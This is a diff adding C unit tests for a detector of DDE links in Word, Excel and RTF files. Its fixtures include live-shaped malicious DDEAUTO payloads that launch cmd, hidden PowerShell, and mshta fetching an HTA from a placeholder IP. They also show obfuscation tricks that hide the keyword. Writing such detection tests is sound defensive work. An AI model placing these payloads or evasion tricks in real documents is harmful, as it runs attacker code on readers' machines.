@@ -1,0 +1,340 @@
+/*
+ * DDE links in documents (src/detect/docscan_dde.c): which links start a program; Word field
+ * codes in WordprocessingML (w:fldSimple, complex fields split over runs, entities, other
+ * namespace prefixes, nested fields, fields cut off by the end of the data); Excel's ddeLink;
+ * RTF \fldinst with escapes and groups; the preference for a link that starts a program over
+ * an earlier harmless one; every prefix of each sample, from exact-size heap copies (ASan
+ * sees a one-byte over-read), and hostile repetitions in linear time.
+ */
+#include "detect/docscan.h"
+#include "testlib/tcheck.h"
+
+#include "core/mm.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+static uint8_t *dup_exact(const void *d, size_t n)
+{
+    uint8_t *p = malloc(n ? n : 1);
+    assert_non_null(p);
+    if (n)
+        memcpy(p, d, n);
+    return p;
+}
+
+typedef bool (*dde_fn)(const uint8_t *, size_t, struct ds_dde *);
+
+/* fn over the text s from an exact-size copy; also over every prefix (nothing to check there
+ * but that it returns: ASan and the bound do the checking). */
+static bool run(dde_fn fn, const char *s, struct ds_dde *out)
+{
+    size_t n = strlen(s);
+    for (size_t k = 0; k < n; k++) {
+        uint8_t *p = dup_exact(s, k);
+        struct ds_dde x;
+        (void)fn(p, k, &x);
+        free(p);
+    }
+    uint8_t *p = dup_exact(s, n);
+    memset(out, 0x55, sizeof *out);
+    bool r = fn(p, n, out);
+    free(p);
+    return r;
+}
+
+static void test_runs_program(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *app, *topic;
+        bool aut, want;
+    } rows[] = {
+        {"c:\\windows\\system32\\cmd.exe", "/k calc.exe", true, true},
+        {"cmd", "/c calc", false, true},
+        {"CMD.EXE", "", false, true},
+        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden", false,
+         true},
+        {"mshta", "http://198.51.100.7/a.hta", false, true},
+        {"MSEXCEL", "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc", false, true},
+        {"Excel", "C:\\Users\\kato\\data.xlsx", false, false},
+        {"Excel", "C:\\Users\\kato\\data.xlsx", true, false},
+        {"BLP", "BDP", false, false},
+        {"REUTER", "IDN", false, false},
+        {"BLP", "BDP", true, true},           /* updated on opening, not an Office program */
+        {"Excel", "run powershell", false, true}, /* a runner named in the topic */
+        {"Excel", "cmdlet-docs", false, false},   /* ... as a word of its own only */
+        {"Excel", "Sheet1 xcmd", false, false},
+        {"WINWORD", "\\\\198.51.100.7\\share\\x", false, true},
+        {"", "", false, false},
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
+        struct ds_dde x;
+        memset(&x, 0, sizeof x);
+        snprintf(x.app, sizeof x.app, "%s", rows[i].app);
+        snprintf(x.topic, sizeof x.topic, "%s", rows[i].topic);
+        x.autoupdate = rows[i].aut;
+        TC_EQ(rows[i].app, ds_dde_runs_program(&x), rows[i].want);
+    }
+    tc_done();
+}
+
+#define W "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
+
+static void test_docx(void **state)
+{
+    (void)state;
+    struct ds_dde x;
+
+    /* the 2017 sample's shape: a complex field, its code in one run */
+    static const char one[] =
+        "<w:document " W "><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+        "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
+        "\"/k powershell -w hidden -c echo test\" </w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Loading</w:t></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
+    assert_true(run(ds_docx_dde, one, &x));
+    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
+    assert_string_equal(x.topic, "/k powershell -w hidden -c echo test");
+    assert_true(x.autoupdate);
+    assert_true(x.runs_program);
+
+    /* split over runs to hide the keyword, an entity in the code, no "separate" */
+    static const char split[] =
+        "<w:document " W "><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+        "<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE</w:instrText></w:r>"
+        "<w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/c calc&quot;"
+        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
+    assert_true(run(ds_docx_dde, split, &x));
+    assert_string_equal(x.app, "c:\\Windows\\System32\\cmd.exe");
+    assert_string_equal(x.topic, "/c calc");
+
+    /* w:fldSimple, another namespace prefix, the \a switch on a plain DDE field */
+    static const char simple[] =
+        "<x:document xmlns:x=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
+        "<x:p><x:fldSimple x:instr=\" DDE cmd &quot;/c start mshta http://198.51.100.7/a&quot; "
+        "\\a \"><x:r><x:t>1</x:t></x:r></x:fldSimple></x:p></x:document>";
+    assert_true(run(ds_docx_dde, simple, &x));
+    assert_string_equal(x.app, "cmd");
+    assert_string_equal(x.topic, "/c start mshta http://198.51.100.7/a");
+    assert_true(x.autoupdate);
+    assert_true(x.runs_program);
+
+    /* a link to a workbook: found, harmless; a later one that runs a program wins; a field
+     * nested in the code of another (QUOTE building the command) is a field of its own */
+    static const char two[] =
+        "<w:document " W "><w:p>"
+        "<w:fldSimple w:instr=\"DDE Excel &quot;C:\\\\Data\\\\Q3.xlsx&quot; Sheet1!R1C1\"/>"
+        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO "
+        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+        "<w:r><w:instrText>QUOTE 99 109 100</w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+        "<w:r><w:instrText> \"/c calc\"</w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
+    assert_true(run(ds_docx_dde, two, &x));
+    assert_true(x.runs_program);
+    assert_true(x.autoupdate);
+    assert_string_equal(x.app, "/c calc"); /* what the outer code says once QUOTE is out */
+    static const char benign[] =
+        "<w:document " W "><w:p>"
+        "<w:fldSimple w:instr=\"DDE Excel &quot;C:\\\\Data\\\\Q3.xlsx&quot; Sheet1!R1C1\"/>"
+        "<w:fldSimple w:instr=\" PAGE \\* MERGEFORMAT \"/>"
+        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK "
+        "\"https://www.example.com/dde\" </w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
+    assert_true(run(ds_docx_dde, benign, &x));
+    assert_false(x.runs_program);
+    assert_string_equal(x.app, "Excel");
+    assert_string_equal(x.topic, "C:\\Data\\Q3.xlsx");
+
+    /* not DDE: other fields, a word that starts with DDE, text that only mentions it */
+    static const char *const none[] = {
+        "<w:document " W "><w:p><w:r><w:t>DDEAUTO cmd /c calc</w:t></w:r></w:p></w:document>",
+        "<w:document " W "><w:fldSimple w:instr=\"DDEX cmd /c calc\"/></w:document>",
+        "<w:document " W "><w:fldSimple w:instr=\"DDE1 cmd /c calc\"/></w:document>",
+        "<w:document " W "><w:fldSimple w:instr=\"INCLUDETEXT &quot;x.docx&quot;\"/>"
+        "</w:document>",
+        "<w:document " W "><w:r><w:instrText/></w:r><w:fldChar w:fldCharType=\"end\"/>"
+        "<w:fldChar/></w:document>",
+        "",
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
+        TC_CHECK(none[i], !run(ds_docx_dde, none[i], &x));
+    tc_done();
+
+    /* text after a field's "separate" is not its code (here a stray run: a code of its own);
+     * text after a nested field's "separate" belongs to the field still open around it */
+    static const char sep[] =
+        "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+        "<w:r><w:instrText>HYPERLINK x</w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
+        "<w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r>"
+        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:document>";
+    assert_true(run(ds_docx_dde, sep, &x));
+    assert_string_equal(x.app, "cmd");
+    static const char inner[] =
+        "<w:document " W "><w:fldChar w:fldCharType=\"begin\"/>"
+        "<w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType=\"begin\"/>"
+        "<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"separate\"/>"
+        "<w:instrText> /c calc</w:instrText><w:fldChar w:fldCharType=\"end\"/>"
+        "<w:fldChar w:fldCharType=\"end\"/></w:document>";
+    assert_true(run(ds_docx_dde, inner, &x));
+    assert_string_equal(x.app, "cmd");
+    assert_string_equal(x.topic, "/c");
+
+    /* a field cut off by the end of the data: its code as far as it came */
+    static const char cut[] = "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/>"
+                              "</w:r><w:r><w:instrText>DDEAUTO cmd \"/c calc\"";
+    assert_true(run(ds_docx_dde, cut, &x));
+    assert_string_equal(x.app, "cmd");
+}
+
+/* Hostile shapes: fields nested far past the bound, thousands of begins without ends, a code
+ * longer than the bound; all in one pass (a second at most). */
+static void test_docx_hostile(void **state)
+{
+    (void)state;
+    size_t cap = 4u << 20, n = 0;
+    char *b = malloc(cap);
+    assert_non_null(b);
+    static const char beg[] = "<w:fldChar w:fldCharType=\"begin\"/>";
+    static const char txt[] = "<w:instrText>DDEAUTO cmd /c calc</w:instrText>";
+    while (n + sizeof beg < cap) {
+        memcpy(b + n, beg, sizeof beg - 1);
+        n += sizeof beg - 1;
+    }
+    struct ds_dde x;
+    assert_false(ds_docx_dde((const uint8_t *)b, n, &x));
+    /* nested past DS_FIELD_NEST: the code of the ninth field is read as a code of its own */
+    n = 0;
+    for (int i = 0; i < 9; i++) {
+        memcpy(b + n, beg, sizeof beg - 1);
+        n += sizeof beg - 1;
+    }
+    memcpy(b + n, txt, sizeof txt - 1);
+    n += sizeof txt - 1;
+    assert_true(ds_docx_dde((const uint8_t *)b, n, &x));
+    assert_string_equal(x.app, "cmd");
+    /* a code of 1 MiB: cut at the bound, still read */
+    n = 0;
+    memcpy(b, beg, sizeof beg - 1);
+    n = sizeof beg - 1;
+    static const char open[] = "<w:instrText>DDEAUTO cmd \"/c ";
+    memcpy(b + n, open, sizeof open - 1);
+    n += sizeof open - 1;
+    memset(b + n, 'a', 1u << 20);
+    n += 1u << 20;
+    memcpy(b + n, "\"</w:instrText>", 15);
+    n += 15;
+    assert_true(ds_docx_dde((const uint8_t *)b, n, &x));
+    assert_string_equal(x.app, "cmd");
+    assert_true(strlen(x.topic) < sizeof x.topic);
+    free(b);
+}
+
+static void test_xlsx(void **state)
+{
+    (void)state;
+    struct ds_dde x;
+    static const char cmd[] =
+        "<?xml version=\"1.0\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/"
+        "spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc.exe\">"
+        "<ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>";
+    assert_true(run(ds_xlsx_dde, cmd, &x));
+    assert_string_equal(x.app, "cmd");
+    assert_string_equal(x.topic, "/c calc.exe");
+    assert_false(x.autoupdate);
+    assert_true(x.runs_program);
+    /* a market-data link, then the MSEXCEL path trick with a prefix and entities */
+    static const char two[] =
+        "<x:externalLink xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
+        "<x:ddeLink x:ddeService=\"BLP\" x:ddeTopic=\"BDP\"/>"
+        "<x:ddeLink ddeTopic='\\..\\..\\Windows\\System32\\cmd.exe &amp;/c calc' "
+        "ddeService='MSEXCEL'/></x:externalLink>";
+    assert_true(run(ds_xlsx_dde, two, &x));
+    assert_string_equal(x.app, "MSEXCEL");
+    assert_string_equal(x.topic, "\\..\\..\\Windows\\System32\\cmd.exe &/c calc");
+    assert_true(x.runs_program);
+    static const char blp[] = "<externalLink><ddeLink ddeService=\"BLP\" ddeTopic=\"BDP\"/>"
+                              "</externalLink>";
+    assert_true(run(ds_xlsx_dde, blp, &x));
+    assert_false(x.runs_program);
+    static const char *const none[] = {
+        "<externalLink><externalBook r:id=\"rId1\"/></externalLink>",
+        "<externalLink><ddeLink ddeTopic=\"x\"/></externalLink>", /* no service */
+        "<externalLink><ddeLink ddeService=\"cmd", "<ddeLinks/>", "",
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
+        TC_CHECK(none[i], !run(ds_xlsx_dde, none[i], &x));
+    tc_done();
+}
+
+static void test_rtf(void **state)
+{
+    (void)state;
+    struct ds_dde x;
+    /* as Word writes it: the code in runs with their formatting, the result after */
+    static const char word[] =
+        "{\\rtf1\\ansi{\\fonttbl{\\f0 Calibri;}}\\pard{\\field{\\*\\fldinst {\\rtlch\\fcs1 "
+        "\\f0 DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\" }}"
+        "{\\fldrslt {\\f0 Loading}}}\\par}";
+    assert_true(run(ds_rtf_dde, word, &x));
+    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
+    assert_string_equal(x.topic, "/k calc.exe");
+    assert_true(x.autoupdate);
+    assert_true(x.runs_program);
+    /* the keyword cut by groups and a hex escape, an ignorable destination inside, \uN */
+    static const char hid[] =
+        "{\\rtf1{\\field{\\*\\fldinst{D}{D\\'45}AUTO {\\*\\bkmkstart x}cm\\u100?.exe \"/c "
+        "calc\"}{\\fldrslt x}}}";
+    assert_true(run(ds_rtf_dde, hid, &x));
+    assert_string_equal(x.app, "cmd.exe");
+    assert_string_equal(x.topic, "/c calc");
+    /* a harmless DDE link, then one that runs a program */
+    static const char two[] =
+        "{\\rtf1{\\field{\\*\\fldinst DDE Excel \"C:\\\\\\\\d.xlsx\" R1C1}{\\fldrslt 1}}"
+        "{\\field{\\*\\fldinst DDE mshta http://198.51.100.7/a.hta}{\\fldrslt 2}}}";
+    assert_true(run(ds_rtf_dde, two, &x));
+    assert_string_equal(x.app, "mshta");
+    assert_true(x.runs_program);
+    static const char *const none[] = {
+        "{\\rtf1 DDEAUTO cmd /c calc\\par}",
+        "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://example.com\"}{\\fldrslt a}}}",
+        "{\\rtf1{\\field{\\*\\fldinstr DDEAUTO cmd}}}",
+        "{\\rtf1{\\*\\fldinst", "",
+    };
+    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
+        TC_CHECK(none[i], !run(ds_rtf_dde, none[i], &x));
+    tc_done();
+    /* many fields, deep groups: one pass */
+    size_t cap = 2u << 20, n = 0;
+    char *b = malloc(cap);
+    assert_non_null(b);
+    static const char f[] = "{\\field{\\*\\fldinst {{{{PAGE}}}}}}";
+    while (n + sizeof f < cap) {
+        memcpy(b + n, f, sizeof f - 1);
+        n += sizeof f - 1;
+    }
+    assert_false(ds_rtf_dde((const uint8_t *)b, n, &x));
+    memset(b, '{', cap);
+    memcpy(b, "\\fldinst ", 9);
+    assert_false(ds_rtf_dde((const uint8_t *)b, cap, &x));
+    free(b);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_runs_program), cmocka_unit_test(test_docx),
+        cmocka_unit_test(test_docx_hostile), cmocka_unit_test(test_xlsx),
+        cmocka_unit_test(test_rtf),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
